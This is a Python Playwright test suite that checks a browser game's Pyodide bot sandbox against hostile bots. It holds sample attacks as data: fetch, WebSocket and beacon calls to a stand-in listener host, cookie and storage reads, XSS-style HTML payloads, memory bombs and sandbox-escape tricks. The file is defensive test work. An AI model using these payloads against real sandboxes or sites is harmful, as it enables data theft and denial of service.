"""Whatever a bot does, the site stays usable, no data leaves it, and no stored data is read or changed."""

import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path
from shutil import copytree

import pytest
from playwright.sync_api import Browser, Error, Page, Worker, expect

from game.site.serve import SiteServer
from tests.e2e.sandboxes import add_sandboxes, call, ended, of_run, open_sandboxes, printed, reason, request
from tests.e2e.steps import board
from tests.slices import sample

PLAY = "\ndef choose(game):\n    return game.legal_actions()[0]\n"
"""How a bot plays on after an attack at its start."""

TELL = """
import gc, json
from game.arena.sandbox_worker import SandboxWorker
sandbox = next(thing for thing in gc.get_objects() if type(thing) is SandboxWorker)
tell = sandbox._send
fields = {"id": sandbox._id, "games": [], "playing": None, "print": "", "move": "", "end": None}
"""
"""Finds the function that sends a sandbox's replies, bypassing all its limits."""


def tries(code: str) -> str:
    """Return a bot that tries something at its start, prints the outcome, and plays on."""
    return tries_all({"it": code})


def tries_all(codes: dict[str, str]) -> str:
    """Return a bot that tries several things at its start, prints each outcome, and plays on."""
    parts = []
    for name, code in codes.items():
        body = "".join(f"    {line}\n" for line in code.strip().splitlines())
        parts.append(f"try:\n{body}    print('{name} GOT')\nexcept BaseException:\n    print('{name} refused')\n")
    return "".join(parts) + PLAY


def chooses(code: str) -> str:
    """Return a bot that runs code before each move."""
    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
    return f"def choose(game):\n{body}    return game.legal_actions()[0]\n"


def replies(code: str) -> str:
    """Return a bot that forges replies."""
    return TELL + code.strip() + PLAY


def ends(reason: str, facts: str) -> str:
    """Return the code of a reply that ends a request with a failure."""
    return f"tell(json.dumps({{**fields, 'end': {{'reason': '{reason}', 'line': 1, 'facts': {facts}}}}}))"


LIBRARY = b"\0asm\x01\0\0\0" + b"\0\x0f\x08dylink.0\x01\x04\0\0\0\0" + b"\x05\x03\x01\0\x01"
"""A WebAssembly library that only allocates memory."""

DONE = ("done",)
SLOW = ("bot-slow",)
FAULT = ("bot-fault",)
NONSENSE = ("bot-nonsense",)
NOISE = ("bot-noise",)
DEAD = ("bot-died", "bot-deep", "bot-memory", "bot-fault")
"""How a run may end if its interpreter breaks: which limit is hit first depends on the browser."""

CURIOUS: dict[str, str] = {
    # The network
    "pyfetch": "from pyodide.http import open_url\nprint(open_url('LISTENER'))",
    "urllib": "import urllib.request\nprint(urllib.request.urlopen('LISTENER').read())",
    "js-fetch": "from js import fetch\nfetch('LISTENER')",
    "js-websocket": "from js import WebSocket\nWebSocket.new('LISTENER')",
    "install-a-package": "import micropip",
    "load-a-package": "import pyodide_js\npyodide_js.loadPackage('LISTENER/a.whl')",
    "run-javascript": "from pyodide.code import run_js\nprint(run_js('fetch(\"LISTENER\")'))",
    # The page and its storage
    "document": "from js import document\nprint(document.cookie)",
    "parent": "from js import parent\nparent.document",
    "storage": "from js import localStorage\nlocalStorage.setItem('tilelab.settings', 'x')",
    "indexed-db": "from js import indexedDB\nindexedDB.open('secret')",
    # What runs the bot
    "threads": "import threading\nthreading.Thread(target=print).start()",
    "processes": "import subprocess\nsubprocess.run(['ls'])",
    "javascript-by-its-constructor": f"{TELL.strip()}\ntell.constructor('return 1')()",
}
"""Attempts that must be refused, whatever else the same bot has tried."""

BOTS: dict[str, dict[str, tuple[str, tuple[str, ...]]]] = {
    "time": {
        "endless-loop": (chooses("while True:\n    pass"), SLOW),
        "endless-loop-that-catches-all": (
            chooses("while True:\n    try:\n        1 / 0\n    except BaseException:\n        pass"),
            SLOW,
        ),
        "endless-start": ("while True:\n    pass\n", SLOW),
        "sleep": (chooses("import time\ntime.sleep(1000)"), SLOW),
        "long-arithmetic": (chooses("9 ** 9 ** 9"), SLOW),
        "stopped-clock": ("import time\ntime.perf_counter = lambda: 0\n" + chooses("while True:\n    pass"), SLOW),
        "endless-writing-past-python": (chooses("import os\nwhile True:\n    os.write(2, b'x\\n')"), SLOW),
        "endless-warnings": (chooses("import warnings\nwhile True:\n    warnings.warn('x')\n    warnings.resetwarnings()"), SLOW),
    },
    "depth": {
        "recursion": ("def choose(game):\n    return choose(game)\n", FAULT),
        "deep-recursion": ("import sys\nsys.setrecursionlimit(10**9)\ndef choose(game):\n    return [choose(game)]\n", DEAD),
        # If the browser gives the worker a larger stack, as Firefox does, Python's own limit is hit first.
        "recursion-in-c": (
            "from functools import partial\ndef choose(game):\n    return partial(choose, game)()\n",
            ("bot-deep", *FAULT),
        ),
        "deep-repr": (chooses("deep = []\nfor _ in range(200000):\n    deep = [deep]\nrepr(deep)"), ("bot-deep",)),
    },
    "memory": {
        "memory-bomb": (chooses("hoard = [bytearray(1 << 26) for _ in range(100)]"), ("bot-memory",)),
        "great-file": (chooses("import os\nopen('x', 'w').close()\nos.truncate('x', 1 << 40)"), FAULT),
        "memory-beside-python": (
            "from pyodide.ffi import to_js\nhoard = [to_js([bytes(1 << 26)]) for _ in range(100)]" + PLAY,
            ("bot-memory", "bot-fault"),
        ),
        "one-great-block": (chooses("bytearray(1 << 30)"), ("bot-memory",)),
        "full-disk": (chooses("with open('x', 'wb') as file:\n    while True:\n        file.write(bytes(1 << 24))"), FAULT),
        "a-library-with-memory-of-its-own": (
            tries(f"open('a.so', 'wb').write({LIBRARY!r})\nimport ctypes\nctypes.CDLL('./a.so')"),
            ("done", "bot-died"),
        ),
        "file-with-a-hole": (chooses("with open('x', 'wb') as file:\n    file.seek(1 << 33)\n    file.write(b'x')"), FAULT),
    },
    "the end of its interpreter": {
        "exit": (chooses("import sys\nsys.exit()"), FAULT),
        "hard-exit": (chooses("import os\nos._exit(0)"), DEAD),
        "interrupt": (chooses("raise KeyboardInterrupt"), FAULT),
        "crash": (chooses("import ctypes\nctypes.memset(0, 65, 1 << 28)"), (*DEAD, "bot-slow", "bot-noise", "bot-nonsense")),
        "base-exception": (chooses("raise BaseException"), FAULT),
        "abort": (chooses("import os\nos.abort()"), DEAD),
    },
    "what runs the bot": {
        "patched-builtins": ("import builtins\nbuiltins.len = builtins.print = builtins.isinstance = None" + PLAY, DEAD),
        "no-builtins": ("import builtins\nfor name in list(vars(builtins)):\n    delattr(builtins, name)" + PLAY, DEAD),
        "no-modules": ("import sys\nsys.modules.clear()" + PLAY, ("done", "bot-fault")),
        "patched-json": ("import json\njson.dumps = lambda value: 'x' * 9" + PLAY, NONSENSE),
        "patched-records": (
            "from game.arena.record import Record\nRecord.as_json = lambda self: {'seed': 1, 'score': 10**9}" + PLAY,
            NONSENSE,
        ),
        "patched-rules": (
            "from game.twenty48 import game\ngame.play = lambda *_: 'won'\ngame.outcome = lambda *_: 'solved'" + PLAY,
            ("done", "bot-fault", "bot-nonsense"),
        ),
        "other-seeds": (
            "from game.arena import sandbox_worker as worker\nplay = worker.Playthrough\n"
            "worker.Playthrough = lambda setup, seed: play(setup, seed + 5)" + PLAY,
            NONSENSE,
        ),
    },
    "returns": {
        "nothing": ("def choose(game):\n    pass\n", ("bot-choice",)),
        "a-great-number": ("def choose(game):\n    return 10 ** 5000\n", FAULT),
        "a-great-text": ("def choose(game):\n    return '<img src=LISTENER>' * 10**6\n", ("bot-choice",)),
        "odd-index": (
            "class Odd:\n    def __index__(self):\n        return self\ndef choose(game):\n    return Odd()\n",
            ("bot-choice",),
        ),
        "odd-repr": (
            "class Odd(str):\n    def __repr__(self):\n        return 5\n    lower = None\n"
            "def choose(game):\n    return Odd('l')\n",
            FAULT,
        ),
        "html-in-an-error": ("raise ValueError('<img src=LISTENER onerror=alert(1)><script src=LISTENER></script>')\n", FAULT),
        "html-in-print": ("print('<img src=LISTENER><iframe src=LISTENER></iframe>')" + PLAY, DONE),
        "surrogates": ("print(chr(0xD800), chr(0), chr(0x202E))" + PLAY, DONE),
        "endless-print": (chooses("while True:\n    print('x')"), SLOW),
        "great-print": ("print('x' * 10**8)" + PLAY, DONE),
    },
    "replies of its own making": {
        "reply-to-another-question": (replies("tell(json.dumps({**fields, 'id': 99}))"), NONSENSE),
        "done-without-playing": (replies("tell(json.dumps({**fields, 'end': 'done'}))"), NONSENSE),
        "a-move-nobody-asked-for": (replies("tell(json.dumps({**fields, 'move': 'l'}))"), NONSENSE),
        "ready-again": (replies("tell('{\"ready\": true}')"), NONSENSE),
        "no-json": (replies("tell('[' * 100000)"), NONSENSE),
        "a-long-number": (replies("tell('{\"id\": ' + '9' * 500000 + '}')"), NONSENSE),
        "more-milestones-than-tiles": (
            replies(
                """
record = {"seed": "1", "score": 1, "max_tile": 2, "moves": 0, "seconds": 0, "outcome": "lost", "transcript": "", "notes": {}}
milestones = [[tile, 1, 1] for tile in range(1, 601)]
tell(json.dumps({**fields, "games": [{**record, "milestones": milestones}]}))"""
            ),
            NONSENSE,
        ),
        "a-choice-without-facts": (replies(ends("bot-choice", "{}")), NONSENSE),
        "facts-that-are-names": (replies(ends("bot-fault", "{'why': 'x', 'language': 'x', 'self': 'x'}")), NONSENSE),
        "many-quotation-marks": (replies("tell('\"' + '\\\\\"' * 250000 + '1' * 30)"), NONSENSE),
        "a-flood": (replies("while True:\n    tell(json.dumps({**fields, 'print': 'x'}))"), NOISE),
        "a-huge-reply": (replies("tell('x' * 10**8)"), NOISE),
        "a-death-of-its-own-telling": (replies('tell(\'{"dead": "<b>"}\')'), NONSENSE),
        "no-text": (replies("from pyodide.ffi import to_js\ntell(to_js([1]))"), NONSENSE),
        "a-late-reply": (
            replies("import asyncio\nasyncio.get_event_loop().call_later(0.5, lambda: tell(json.dumps(fields)))"),
            ("done", "bot-nonsense", "bot-fault"),
        ),
    },
}
"""Bots by what they attack, with the possible ends of a run. Slices take the bots of a kind in this order."""

FLOODS: dict[str, str] = {
    "silence": "print('begun')\n" + chooses("while True:\n    pass"),
    "writing past Python": "import os\nprint('begun')\n" + chooses("while True:\n    os.write(2, b'x\\n')"),
    "warnings": "import warnings\nprint('begun')\n"
    + chooses("while True:\n    warnings.warn('x')\n    warnings.resetwarnings()"),
    "distinct replies": "import time\nprint('begun')\n"
    + TELL
    + chooses(
        """
for number in range(10**9):
    tell(json.dumps({**fields, "playing": ["1", number], "print": f"{number} "}))
    until = time.perf_counter() + 0.006
    while time.perf_counter() < until:
        pass"""
    ),
}
"""Bots that print `begun`, then never return and keep the page busy without exceeding the output limit."""

MEMORY: dict[str, str] = {
    "buffers": "() => new ArrayBuffer(2 ** 24)",
    "numbers": "() => new Float64Array(2 ** 21)",
    "numbers-by-a-captured-constructor": "() => new (new Uint8Array(1).constructor)(2 ** 24)",
    "copies-of-a-list": "() => Float64Array.from({ length: 2 ** 18 })",
    "copies-without-a-constructor": """(() => {
        const whole = new Uint8Array(2 ** 24); whole.constructor = undefined; return () => whole.slice(); })()""",
    "slices-of-a-buffer": "(() => { const whole = new ArrayBuffer(2 ** 24); return () => whole.slice(0); })()",
    "texts-as-bytes": "(() => { const text = 'x'.repeat(2 ** 24); return () => new TextEncoder().encode(text); })()",
    "texts": "() => 'x'.repeat(2 ** 24)",
}
"""Functions that allocate 2 to 16 MiB outside Python's heap, in a sandbox's worker, at each call."""

GONE = (
    "Blob",
    "structuredClone",
    "WebAssembly",
    "OffscreenCanvas",
    "ImageData",
    "ReadableStream",
    "CompressionStream",
    "SharedArrayBuffer",
    "MessageChannel",
    "BroadcastChannel",
    "Intl",
    "postMessage",
    "close",
    "RTCPeerConnection",
    "crypto.subtle",
    "ArrayBuffer.prototype.resize",
    "ArrayBuffer.prototype.transfer",
    "Uint8Array.prototype.map",
    "Uint8Array.prototype.toSorted",
    "String.prototype.padEnd",
)
"""Globals that allocate memory or lead out; they are removed from a sandbox's worker."""

FRAME_GONE = ("RTCPeerConnection", "webkitRTCPeerConnection", "WebSocket", "WebTransport", "XMLHttpRequest", "fetch")
"""Globals that lead out; they are removed from a sandbox's frame. Not every browser's policy covers the first one."""

JAVASCRIPT: dict[str, str] = {
    "fetch": "(await fetch('LISTENER')).status",
    "fetch-of-the-site": "(await fetch('SITE')).status",
    "fetch-without-leave": "(await fetch('LISTENER', { mode: 'no-cors', keepalive: true })).type",
    "xhr": """new Promise((yes, no) => {
        const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no; asked.open('GET', 'LISTENER');
        asked.send(); })""",
    "websocket": """new Promise((yes, no) => {
        const socket = new WebSocket('LISTENER'.replace('http', 'ws')); socket.onopen = yes; socket.onerror = no; })""",
    "event-source": "new Promise((yes, no) => { const s = new EventSource('LISTENER'); s.onopen = yes; s.onerror = no; })",
    "beacon": "navigator.sendBeacon('LISTENER', 'x') || Promise.reject('refused')",
    "import": "import('LISTENER/a.js')",
    "import-of-a-blob": "import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))",
    "import-of-data": "import('data:text/javascript,1')",
    "import-scripts": "importScripts('LISTENER/a.js')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
    "shared-worker": "new SharedWorker('SITE')",
    # In a timer, because code that a driver evaluates directly is exempt from the policy.
    "eval": "new Promise((yes, no) => setTimeout(() => { try { yes(eval('1')); } catch { no('refused'); } }))",
    "function": "new Promise((yes, no) => setTimeout(() => { try { yes(Function('return 1')()); } catch { no('refused'); } }))",
    "timer-with-text": """new Promise((yes, no) => {
        setTimeout('globalThis.ran = 1'); setTimeout(() => globalThis.ran ? yes() : no('refused'), 50); })""",
    "indexed-db": "new Promise((yes, no) => { const r = indexedDB.open('secret'); r.onsuccess = yes; r.onerror = no; })",
    "caches": "(await caches.open('secret')).keys()",
    "local-storage": "localStorage.length",
    "files": "navigator.storage.getDirectory()",
    "service-worker": "navigator.serviceWorker.register('SITE/sw.js')",
    "document": "document.cookie",
    "parent": "parent.location",
    "locks-of-the-page": "navigator.locks.request('x', () => Promise.reject('refused'))",
    "font": "new FontFace('x', 'url(LISTENER)').load()",
    "transport": "new WebTransport('LISTENER'.replace('http', 'https')).ready",
}
"""Expressions that must all fail in a sandbox's worker, as if a bot had broken out of Python."""


KEEP_DATABASE = "globalThis.database = indexedDB"
"""Runs before the page's scripts, which replace `indexedDB` by a stand-in."""
SECRETS = """async () => {
  const [db, cache] = await Promise.all([
    new Promise((resolve) => {
      const opening = database.open("secret");
      opening.onupgradeneeded = () => opening.result.createObjectStore("kept");
      opening.onsuccess = () => resolve(opening.result);
    }),
    caches.open("secret"),
  ]);
  const all = (request) => new Promise((resolve) => { request.onsuccess = () => resolve(request.result); });
  if (!localStorage.getItem("secret")) {
    localStorage.setItem("secret", "kept");
    document.cookie = "secret=kept";
    db.transaction("kept", "readwrite").objectStore("kept").put("kept", "secret");
    await cache.put("./secret", new Response("kept"));
  }
  const found = {
    local: localStorage.getItem("secret"),
    cookie: document.cookie,
    db: await all(db.transaction("kept").objectStore("kept").getAll()),
    names: (await database.databases()).map((each) => each.name),
    cache: await (await cache.match("./secret")).text(),
    caches: await caches.keys(),
  };
  db.close();
  return found;
}"""
"""Stores a secret in each of the browser's stores on the first call; returns their contents."""


class Site(SiteServer):
    """Serves the site and records the requests."""

    def __init__(self, directory: Path) -> None:
        self.asked: list[str] = []
        super().__init__(directory, prefix="/repo/")

    def find(self, url_path: str) -> Path | None:
        """Find a file and record the request."""
        self.asked.append(url_path)
        return super().find(url_path)


class Lab:
    """The page with its sandboxes, its server and a foreign server, and the requests of both."""

    def __init__(self, page: Page, site: Site, listener: str, heard: list[str]) -> None:
        self.page = page
        self.site = site
        self.listener = listener
        self.heard = heard
        self.runs = 0
        self.secrets = page.evaluate(SECRETS)
        self.run(PLAY)
        self.asked = list(site.asked)

    def run(self, source: str, seeds: int = 1, move_ms: int = 30_000) -> int:
        """Run a bot until the run ends; return the number of the run."""
        self.runs += 1
        call(self.page, "run", self.runs, request(self.address(source), seeds, move_ms))
        expect(ended(self.page, self.runs)).to_have_count(1)
        return self.runs

    def address(self, code: str) -> str:
        """Insert the addresses into an attack."""
        return code.replace("LISTENER", self.listener).replace("SITE", self.site.url)

    def check(self) -> None:
        """Check that the site is usable, that nothing was sent and that no stored data has changed."""
        self.page.keyboard.press("n")
        expect(board(self.page)).to_have_attribute("data-moves", "0")
        for key in ("ArrowDown", "ArrowLeft", "ArrowUp"):
            self.page.keyboard.press(key)
        expect(board(self.page)).not_to_have_attribute("data-moves", "0")
        assert self.page.evaluate(SECRETS) == self.secrets
        assert self.page.locator("img, script[src^=http], iframe:not([sandbox='allow-scripts'])").count() == 0
        assert self.heard == []
        assert self.site.asked == self.asked


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that must not be reached, and what it received."""
    heard: list[str] = []

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            heard.append(repr(self.request.recv(100)))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def lab(
    built: Path, browser: Browser, listener: tuple[str, list[str]], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Lab]:
    """One page for all attacks, so that damage by one of them affects the next."""
    tree = tmp_path_factory.mktemp("hostile") / "site"
    copytree(built, tree)
    add_sandboxes(tree)
    server = Site(tree)
    with server.running() as address:
        context = browser.new_context(base_url=address, locale="en-US", service_workers="block")
        context.add_init_script(KEEP_DATABASE)
        page = context.new_page()
        open_sandboxes(page)
        yield Lab(page, server, *listener)
        context.close()


def test_a_curious_bot_is_refused_everything_it_tries(lab: Lab) -> None:
    run = lab.run(tries_all(CURIOUS))
    assert reason(lab.page, run) == "done"
    assert set(printed(lab.page, run).splitlines()) == {f"{name} refused" for name in CURIOUS}
    lab.check()


@pytest.mark.parametrize(
    ("source", "ends"), [pytest.param(*bots[name], id=name) for bots in BOTS.values() for name in sample(bots)]
)
def test_a_hostile_bot_harms_only_its_own_run(lab: Lab, source: str, ends: tuple[str, ...]) -> None:
    run = lab.run(source, move_ms=1000 if ends == SLOW else 30_000)
    assert reason(lab.page, run) in ends
    assert "GOT" not in printed(lab.page, run)
    lab.check()


def waiting_worker(lab: Lab) -> Worker:
    """Ask a bot for a move; return the worker where it then waits."""
    lab.runs += 1
    call(lab.page, "ask_once", lab.runs, request(PLAY, seed=1, position="0000000000101000", score=0, ply=0))
    expect(of_run(lab.page, lab.runs).filter(has_text='"move"')).to_have_count(1)
    return next(worker for worker in lab.page.workers if runs_a_bot(worker))


def runs_a_bot(worker: Worker) -> bool:
    """Whether a worker has been locked down, which happens before a bot is loaded."""
    try:
        return bool(worker.evaluate("typeof postMessage === 'undefined'"))
    except Error:
        return False


@pytest.mark.pretends
def test_javascript_in_the_worker_of_a_bot_reaches_nothing(lab: Lab) -> None:
    worker = waiting_worker(lab)
    results = {}
    for name, code in JAVASCRIPT.items():
        results[name] = worker.evaluate(
            f"async () => {{ try {{ await ({lab.address(code)}); return 'GOT'; }} catch {{ return 'refused'; }} }}"
        )
    assert results == dict.fromkeys(JAVASCRIPT, "refused")
    lab.check()
    kinds = {
        name: worker.evaluate(f"(() => {{ try {{ return typeof {name}; }} catch {{ return 'undefined'; }} }})()") for name in GONE
    }
    assert kinds == dict.fromkeys(GONE, "undefined")


@pytest.mark.pretends
def test_the_frame_has_no_globals_that_lead_out(lab: Lab) -> None:
    waiting_worker(lab)
    # The next sandbox may be starting: until its document has loaded, its globals are still there.
    frames = lab.page.frames[1:]
    assert frames
    for frame in frames:
        frame.wait_for_url("about:srcdoc")
        assert [name for name in FRAME_GONE if frame.evaluate(f"typeof {name}") != "undefined"] == []


@pytest.mark.pretends
@pytest.mark.parametrize("name", sample(MEMORY))
def test_memory_outside_pythons_heap_counts_against_the_cap(lab: Lab, name: str) -> None:
    worker = waiting_worker(lab)
    # 1 GiB at most, to spare the machine if nothing stops it. In a timer, because the worker ends when out of memory.
    worker.evaluate(
        f"""() => {{ setTimeout(() => {{
            const take = {MEMORY[name]}, hoard = [];
            for (let taken = 0; taken < 2 ** 30; taken += hoard.at(-1).byteLength ?? hoard.at(-1).length) hoard.push(take());
        }}); }}"""
    )
    expect(ended(lab.page, lab.runs)).to_have_count(1)
    assert reason(lab.page, lab.runs) == "bot-memory"
    lab.check()


def test_replies_faster_than_the_page_reads_are_read_together_and_none_is_lost(lab: Lab) -> None:
    burst = """
for number in range(150):
    tell(json.dumps({**fields, "playing": ["1", number], "print": f"{number} "}))
"""
    run = lab.run(TELL + f"if not hasattr(json, 'sent'):\n    json.sent = True\n{indented(burst)}" + PLAY)
    assert reason(lab.page, run) == "done"
    assert printed(lab.page, run) == "".join(f"{number} " for number in range(150))
    assert of_run(lab.page, run).filter(has_text='"Printed"').count() < 75


def indented(code: str) -> str:
    """Indent code by one level."""
    return "".join(f"    {line}\n" for line in code.strip().splitlines())


def test_a_run_whose_bot_never_returns_can_be_stopped_and_the_next_one_starts(lab: Lab) -> None:
    for _ in range(3):
        lab.runs += 1
        call(lab.page, "run", lab.runs, request("print('begun')\n" + "def choose(game):\n    while True:\n        pass\n"))
        expect(of_run(lab.page, lab.runs).filter(has_text="begun")).not_to_have_count(0)
        call(lab.page, "stop", lab.runs)
    stopped = lab.runs
    run = lab.run(PLAY, seeds=10)
    assert reason(lab.page, run) == "done"
    assert ended(lab.page, stopped).count() == 0
    lab.check()


@pytest.mark.parametrize("name", sample(FLOODS))
def test_the_page_stays_playable_during_a_flood_and_stop_ends_it(lab: Lab, name: str) -> None:
    page = lab.page
    page.keyboard.press("n")
    expect(board(page)).to_have_attribute("data-moves", "0")
    lab.runs += 1
    call(page, "run", lab.runs, request(FLOODS[name]))
    expect(of_run(page, lab.runs).filter(has_text="begun")).not_to_have_count(0)
    for key in ("ArrowDown", "ArrowLeft", "ArrowUp"):
        page.keyboard.press(key)
    expect(board(page)).not_to_have_attribute("data-moves", "0")
    assert ended(page, lab.runs).count() == 0, "a flood that ends by itself would prove nothing"
    page.evaluate("for (const frame of document.querySelectorAll('iframe')) frame.dataset.former = 'on'")
    former = page.locator("iframe[data-former]")
    count = former.count()
    call(page, "stop", lab.runs)
    expect(former).to_have_count(count - 1)
    assert reason(page, lab.run(PLAY)) == "done"
    lab.check()


def test_nothing_a_bot_leaves_behind_reaches_the_next_run(lab: Lab) -> None:
    left = "import builtins, game.arena.bot\nbuiltins.left = 1\ngame.arena.bot.left = 1\nopen('left', 'w').close()" + PLAY
    assert reason(lab.page, lab.run(left)) == "done"
    look = "import builtins, os, game.arena.bot\nprint([hasattr(builtins, 'left'), os.path.exists('left')])"
    run = lab.run(look +  "\nprint(hasattr(game.arena.bot, 'left'))" + PLAY)
    assert set(printed(lab.page, run).split()) == {"[False,", "False]", "False"}
